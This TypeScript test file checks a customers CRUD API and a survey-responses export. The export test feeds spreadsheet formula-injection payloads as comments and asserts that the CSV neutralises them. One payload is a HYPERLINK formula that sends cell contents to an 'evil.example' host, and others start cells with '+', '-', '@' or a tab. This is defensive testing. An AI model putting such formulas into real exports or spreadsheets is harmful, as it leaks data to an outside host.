import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Role } from '../src/accounts/roles.ts';
import { createApp } from '../src/http/app.ts';
import { createApiKey } from '../src/storage/accounts.ts';
import { listAudit } from '../src/storage/audit.ts';
import { saveSurvey } from '../src/storage/surveys.ts';
import type { Workspace } from '../src/storage/workspaces.ts';
import { describeEachEngine } from './support/databases.ts';
import { checkoutSurvey } from './support/surveys.ts';

/** The customers CRUD API and the responses export (CSV with formula injection neutralised, JSON). */
describeEachEngine('customers API and responses export', (t) => {
  let instance: ReturnType<typeof createApp> | undefined;
  const app = () => (instance ??= createApp({ db: t.db, version: 'test', trustProxy: true }));
  const keyFor = async (ws: Workspace, role: Role) => (await createApiKey(t.db, { workspaceId: ws.id, name: `${role} key`, role })).secret;
  const call = async (key: string, method: string, path: string, body?: unknown) => {
    const response = await app().request(path, {
      method,
      headers: { authorization: `Bearer ${key}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await response.text();
    let parsed: unknown = text;
    try {
      parsed = text ? JSON.parse(text) : undefined;
    } catch {
      // CSV
    }
    return { status: response.status, body: parsed as any, headers: response.headers, text };
  };

  test('analysts add, change and delete customers; viewers read; audited; the rollups follow a changed segment', async () => {
    const ws = await t.workspace('cust');
    const q = `workspace=${ws.name}`;
    const analyst = await keyFor(ws, 'analyst');
    const viewer = await keyFor(ws, 'viewer');
    assert.equal((await call(viewer, 'POST', `/api/v1/customers?${q}`, { id: 'c-1' })).status, 403);
    const made = await call(analyst, 'POST', `/api/v1/customers?${q}`, { id: 'c-1', name: 'Ana', email: 'ana@example.com', segment: 'smb', headcount: 12, attributes: { language: 'lt' } });
    assert.equal(made.status, 201, JSON.stringify(made.body));
    assert.equal(made.body.customer.name, 'Ana');
    assert.equal((await call(analyst, 'POST', `/api/v1/customers?${q}`, { id: 'c-1' })).status, 409);
    for (const bad of [{}, { id: '' }, { id: 'x', email: 'not-mail' }, { id: 'x', headcount: -1 }, { id: 'x', unknown: 1 }, { id: 'x', signup_at: '2026-01-01' }]) {
      assert.equal((await call(analyst, 'POST', `/api/v1/customers?${q}`, bad)).status, 400, JSON.stringify(bad));
    }
    await call(analyst, 'POST', `/api/v1/customers?${q}`, { id: 'c-2', name: 'Bilal' });
    const page1 = await call(viewer, 'GET', `/api/v1/customers?${q}&limit=1`);
    assert.deepEqual(page1.body.customers.map((c: { id: string }) => c.id), ['c-1']);
    const page2 = await call(viewer, 'GET', `/api/v1/customers?${q}&limit=1&after=${page1.body.next}`);
    assert.deepEqual(page2.body.customers.map((c: { id: string }) => c.id), ['c-2']);
    assert.deepEqual((await call(viewer, 'GET', `/api/v1/customers?${q}&q=bil`)).body.customers.map((c: { id: string }) => c.id), ['c-2']);
    assert.equal((await call(viewer, 'GET', `/api/v1/customers?${q}&limit=0`)).status, 400);

    const patched = await call(analyst, 'PATCH', `/api/v1/customers/c-1?${q}`, { segment: 'enterprise', attributes: { language: null, tier: 'gold' } });
    assert.equal(patched.status, 200, JSON.stringify(patched.body));
    assert.equal(patched.body.customer.segment, 'enterprise');
    assert.deepEqual(patched.body.customer.attributes, { tier: 'gold' });
    assert.equal(patched.body.customer.name, 'Ana', 'fields not sent stay');
    assert.equal((await call(viewer, 'PATCH', `/api/v1/customers/c-1?${q}`, { name: 'x' })).status, 403);
    assert.equal((await call(analyst, 'PATCH', `/api/v1/customers/nobody?${q}`, { name: 'x' })).status, 404);
    const stale = await t.db.query<{ n: number }>('SELECT count(*)::integer AS n FROM rollup_state WHERE workspace_id = $1 AND stale', [ws.id]);
    assert.equal(stale[0]!.n, 0, 'the rollups were rebuilt after the segment changed');
    assert.equal((await call(viewer, 'GET', `/api/v1/customers/c-1?${q}`)).body.customer.segment, 'enterprise');
    assert.equal((await call(analyst, 'DELETE', `/api/v1/customers/c-1?${q}`)).status, 204);
    assert.equal((await call(viewer, 'GET', `/api/v1/customers/c-1?${q}`)).status, 404);
    assert.equal((await call(viewer, 'GET', `/api/v1/customers/at-risk?${q}`)).status, 200, '/customers/at-risk is not taken for an id');
    const actions = (await listAudit(t.db, ws.id)).map((a) => a.action).sort();
    assert.deepEqual(actions, ['customer.create', 'customer.create', 'customer.delete', 'customer.update']);
  });

  test('the export: CSV with formula cells neutralised, JSON, filters, employees never', async () => {
    const ws = await t.workspace('export');
    await saveSurvey(t.db, ws.id, checkoutSurvey());
    const viewer = await keyFor(ws, 'viewer');
    const q = `workspace=${ws.name}`;
    const comments = ['=HYPERLINK("http://evil.example?"&A1,"x")', '+1', '-2+3', '@SUM(A1)', '\tTab', 'plain, "quoted"'];
    for (const [i, comment] of comments.entries()) {
      const response = await app().request('/api/v1/public/responses', {
        method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': `203.0.113.${i + 1}` },
        body: JSON.stringify({ workspace: ws.name, survey: 'checkout', answers: { recommend: { score: i, comment } } }),
      });
      assert.equal(response.status, 201);
    }
    await t.db.query(`INSERT INTO responses (workspace_id, id, kind, score, employee_id, submitted_at) VALUES ($1, 'e-1', 'esat', 5, 'emp-1', now())`, [ws.id]);
    const csv = await call(viewer, 'GET', `/api/v1/responses/export?${q}&format=csv`);
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type')!, /^text\/csv/);
    assert.match(csv.headers.get('content-disposition')!, /^attachment; filename="responses-export-[^"]+\.csv"$/);
    const lines = csv.text.replace(/^\ufeff/, '').split('\r\n').filter(Boolean);
    assert.equal(lines[0], 'id,submitted_at,survey,question,kind,score,scale_min,scale_max,answer,comment,language,touchpoint,channel,customer_id,customer_name,sentiment,sentiment_p_negative,sentiment_method');
    assert.equal(lines.length, 1 + comments.length, 'the employee answer is not exported');
    for (const line of lines.slice(1)) {
      const comment = line.split(',').slice(9).join(',');
      assert.doesNotMatch(comment, /^"?[=+\-@\t\r]/, `no cell starts a formula: ${line}`);
    }
    assert.ok(lines.some((l) => l.includes(`"'=HYPERLINK(""http://evil.example?""&A1`)));
    assert.ok(lines.some((l) => l.includes(",'+1,")));
    assert.ok(lines.some((l) => l.includes(`"plain, ""quoted"""`)));

    const json = await call(viewer, 'GET', `/api/v1/responses/export?${q}&format=json`);
    assert.equal(json.status, 200);
    assert.equal(json.body.length, comments.length);
    assert.deepEqual(new Set(json.body.map((r: { comment: string }) => r.comment)), new Set(comments.map((c) => c.trim())), 'JSON keeps the text as stored (answers are trimmed)');
    const filtered = await call(viewer, 'GET', `/api/v1/responses/export?${q}&format=json&q=SUM`);
    assert.deepEqual(filtered.body.map((r: { comment: string }) => r.comment), ['@SUM(A1)']);
    assert.equal((await call(viewer, 'GET', `/api/v1/responses/export?${q}&format=xlsx`)).status, 400);
    assert.equal((await call(viewer, 'GET', `/api/v1/responses/export?${q}&from=yesterday`)).status, 400);
  });
});
